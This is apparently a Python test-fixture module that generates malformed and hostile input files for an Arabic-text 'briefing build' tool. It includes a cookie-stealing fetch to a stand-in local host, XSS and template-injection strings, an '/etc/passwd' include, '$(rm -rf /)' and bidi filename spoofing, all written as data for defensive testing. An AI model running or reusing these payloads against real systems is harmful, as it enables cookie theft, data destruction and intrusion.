"""The hostile corpus: odd, broken and malicious input files, made at test time from the seeds.

Nothing here is downloaded. Each ``HostileInput`` says what ``briefing build`` must do with its
file: refuse it with a one-line error containing ``problem``, or build it (``problem`` is None),
printing a warning containing ``warning`` when one is given. ``write_corpus`` writes the files.
"""

from __future__ import annotations

import base64
import io
import random
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SEED_000 = ROOT / "seeds" / "000_39f2b8f52989a5bb.txt"
SEED_003 = ROOT / "seeds" / "003_6b5e974a938e85bf.txt"

LONG_PARAGRAPH_WORDS = 20_000
ONE_WORD_LINES = 5_000
TEN_MB = 10 * 1_000_000


@dataclass(frozen=True)
class HostileInput:
    name: str
    make: Callable[[], bytes]
    problem: str | None = None
    warning: str | None = None

    @property
    def builds(self) -> bool:
        return self.problem is None


def seed_text(seed: Path = SEED_000) -> str:
    return seed.read_text(encoding="utf-8")


def seed_words() -> list[str]:
    """The Arabic words of both seeds, punctuation removed, in order."""
    text = seed_text(SEED_000) + " " + seed_text(SEED_003)
    return [word for word in re.sub(r"[^\w\s]", " ", text).split() if not word.isascii()]


def sprinkle(text: str, characters: str, every: int) -> str:
    """``text`` with ``characters`` put in turn after every ``every``-th character."""
    pieces = []
    for position, char in enumerate(text):
        pieces.append(char)
        if position % every == every - 1:
            pieces.append(characters[(position // every) % len(characters)])
    return "".join(pieces)


def pdf_bytes() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    for line in seed_text().splitlines():
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def mixed_encodings() -> bytes:
    lines = [line for line in seed_text(SEED_003).splitlines() if line.strip()]
    return b"\n".join(line.encode("cp1256" if number % 2 else "utf-8") for number, line in enumerate(lines))


def ten_megabytes() -> bytes:
    block = (seed_text().strip() + "\n").encode()
    return block * (TEN_MB // len(block) + 1)


def long_paragraph() -> bytes:
    words = seed_words()
    paragraph = " ".join(words[number % len(words)] for number in range(LONG_PARAGRAPH_WORDS))
    return f"فقرة طويلة جداً بلا علامات ترقيم\n{paragraph}\n".encode()


def one_word_lines() -> bytes:
    words = seed_words()
    return "\n".join(words[number % len(words)] for number in range(ONE_WORD_LINES)).encode()


PERSIAN = (
    "دیدار وزیران خارجه ایران و روسیه در تهران\n"
    "وزیر امور خارجه ایران روز یکشنبه با همتای روسی خود در تهران دیدار کرد. "
    "دو طرف درباره همکاری‌های اقتصادی و امنیتی در منطقه گفتگو کردند و بر ادامه رایزنی‌ها تاکید کردند.\n"
)
URDU = (
    "وزیر اعظم کی زیر صدارت اہم اجلاس\n"
    "پاکستان کے وزیر اعظم نے آج اسلام آباد میں ایک اہم اجلاس کی صدارت کی۔ "
    "اجلاس میں ملک کی معاشی صورتحال اور توانائی کے بحران پر تفصیلی تبادلہ خیال کیا گیا۔\n"
)
DIACRITICS_AND_TATWEEL = (
    "الـعـراقُ وَرُوسـيـا: شَـراكَـةٌ أَمْـنِـيَّـةٌ جَـدِيـدَةٌ\n"
    "قَالَ وَزِيـرُ الخـارِجِـيَّـةِ العِـرَاقِـيُّ إِنَّ بَـغْـدَادَ تَـسْـعَـى إِلَى تَـعْـزِيـزِ عَـلاقَـاتِـهَـا مَـعَ مُوسْـكُـو. "
    "وَأَضَـافَ أَنَّ الاتِّـفَـاقَ سَـيُـوَقَّـعُ خِـلالَ الأَسَـابِـيـعِ المُـقْـبِـلَـةِ.\n"
)
ARABIC_INDIC_DIGITS = (
    "مقتل ١٢ شخصاً في انفجار ببغداد يوم ٢٠٢٤/٠٣/١٥\n"
    "قالت الشرطة العراقية إن ١٢ شخصاً قتلوا وأصيب ٣٤ آخرون في انفجار وقع في ١٥ مارس ٢٠٢٤ "
    "وسط العاصمة، وإن الحصيلة بلغت ۴۶ ضحية وفق أرقام فارسية الشكل.\n"
)
BIDI_OVERRIDE = (
    "تحذير من ملف \u202egpj.exe\u202c مرسل عبر البريد\n"
    "قال خبراء أمن إن الملف \u202eفيديو_مهم\u202c يخفي امتداده الحقيقي، وإن \u2067الرابط\u2069 "
    "\u202dالمرفق\u202c يقود إلى موقع \u200fمزيف\u200e. ونصحوا بعدم فتحه.\n"
)
WEB_PAGE = (
    "<!DOCTYPE html><html lang='ar'><head><meta charset='utf-8'><title>عنوان المتصفح</title>"
    "<link rel='stylesheet' href='http://127.0.0.1:9/evil.css'>"
    "<script>fetch('http://127.0.0.1:9/steal?' + document.cookie)</script></head>"
    "<body><h1>روسيا تستغل خروج القوات الأمريكية من العراق</h1>"
    "<p>قال مسؤول عراقي إن <b>موسكو</b> تسعى إلى &laquo;شراكة أمنية&raquo; مع بغداد.</p>"
    "<img src='http://127.0.0.1:9/pixel.png'><p>وأضاف أن المحادثات ستستمر الأسبوع المقبل.</p>"
    "</body></html>"
)
MARKDOWN = (
    "# روسيا نحو شراكة أمنية مع العراق\n\n"
    "**قال** مسؤول عراقي إن _موسكو_ تسعى إلى شراكة أمنية مع بغداد ([المصدر](http://127.0.0.1:9/source)).\n\n"
    "![صورة](http://127.0.0.1:9/image.png) وأضاف أن المحادثات ستستمر الأسبوع المقبل.\n\n"
    "- نقطة أولى في القائمة.\n- نقطة ثانية في القائمة.\n"
)
INJECTION = (
    "{{ 7*7 }} عنوان فيه قالب {% include '/etc/passwd' %}\n"
    "نشر موقع إخباري عربي مقالاً عن أمن المعلومات يشرح فيه كيف يحاول المهاجمون إدخال تعليمات برمجية "
    "في النصوص التي تنشرها المواقع، وكيف ينبغي للبرامج أن تعرض هذه النصوص كما هي دون تنفيذها.\n"
    "قال المسؤول <script>alert('xss')</script> إن الاجتماع ]]></w:t></w:r><w:r><w:t> انتهى. "
    "وأضاف أن &amp; و &lt;b&gt; و ${HOME} و $(rm -rf /) مجرد نص. "
    "وختم بعبارة <img src=x onerror=alert(1)> و <a href=\"javascript:alert(1)\">رابط</a>.\n"
)


def long_words() -> bytes:
    url = "https://example.com/" + "/".join(f"segment{number}" for number in range(600))
    blob = base64.b64encode(random.Random(8).randbytes(15_000)).decode()
    return (
        "رابط طويل ونص مشفر في مقال\n"
        f"نشر الموقع الرابط {url} في مقاله عن العراق.\n"
        f"وأرفق ملفاً مشفراً هذا نصه {blob} ثم انتهى المقال.\n"
    ).encode()


def with_control_characters() -> bytes:
    text = seed_text()
    return sprinkle(text[:400], "\x01\x08\x1b\x1f\x7f\ufffe\x00", 57).encode() + text[400:].encode()


HOSTILE_INPUTS: tuple[HostileInput, ...] = (
    HostileInput("empty.txt", lambda: b"", problem="is empty"),
    HostileInput("whitespace-only.txt", lambda: b" \n\t\r\n\xc2\xa0\n\n", problem="contains only whitespace"),
    HostileInput("binary.txt", lambda: random.Random(8).randbytes(4096), problem="so it is binary data, not text"),
    HostileInput("pdf-renamed.txt", pdf_bytes, problem="is a PDF document"),
    HostileInput("docx-renamed.txt", docx_bytes, problem="DOCX and ODT documents are ZIP archives"),
    HostileInput("utf16-le-no-bom.txt", lambda: seed_text().encode("utf-16-le")),
    HostileInput("utf16-be-no-bom.txt", lambda: seed_text(SEED_003).encode("utf-16-be")),
    HostileInput("windows-1256.txt", lambda: seed_text(SEED_003).encode("cp1256")),
    HostileInput("mixed-encodings.txt", mixed_encodings, warning="mixes UTF-8 and Windows-1256"),
    HostileInput("nul-bytes.txt", lambda: seed_text().replace(" ", " \x00", 3).encode(),
                 warning="removed 3 control characters (first U+0000"),
    HostileInput("lone-surrogate.txt", lambda: seed_text().encode()[:200] + b"\xed\xa0\x80" + seed_text().encode()[200:],
                 problem="is UTF-8 with invalid bytes (first at offset 200)"),
    HostileInput("xml-invalid-controls.txt", with_control_characters, warning="removed 7 control characters"),
    HostileInput("ten-megabytes.txt", ten_megabytes, problem="over the 5 MB input limit"),
    HostileInput("long-paragraph.txt", long_paragraph),
    HostileInput("one-word-lines.txt", one_word_lines),
    HostileInput("english.txt", lambda: b"Russia seeks a security partnership with Iraq.\nTalks go on.\n",
                 problem="has no Arabic script"),
    HostileInput("persian.txt", PERSIAN.encode, warning="looks like Persian, not Arabic"),
    HostileInput("urdu.txt", URDU.encode, warning="looks like Urdu, not Arabic"),
    HostileInput("diacritics-tatweel.txt", DIACRITICS_AND_TATWEEL.encode),
    HostileInput("arabic-indic-digits.txt", ARABIC_INDIC_DIGITS.encode),
    HostileInput("bidi-override.txt", BIDI_OVERRIDE.encode),
    HostileInput("web-page.txt", WEB_PAGE.encode),
    HostileInput("markdown.txt", MARKDOWN.encode),
    HostileInput("long-words.txt", long_words),
    HostileInput("injection.txt", INJECTION.encode),
)


def hostile_input(name: str) -> HostileInput:
    return next(case for case in HOSTILE_INPUTS if case.name == name)


def write_corpus(folder: Path, cases: Iterable[HostileInput] = HOSTILE_INPUTS) -> dict[str, Path]:
    """Write each case's file into ``folder``; file name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in cases:
        path = folder / case.name
        path.write_bytes(case.make())
        paths[case.name] = path
    return paths
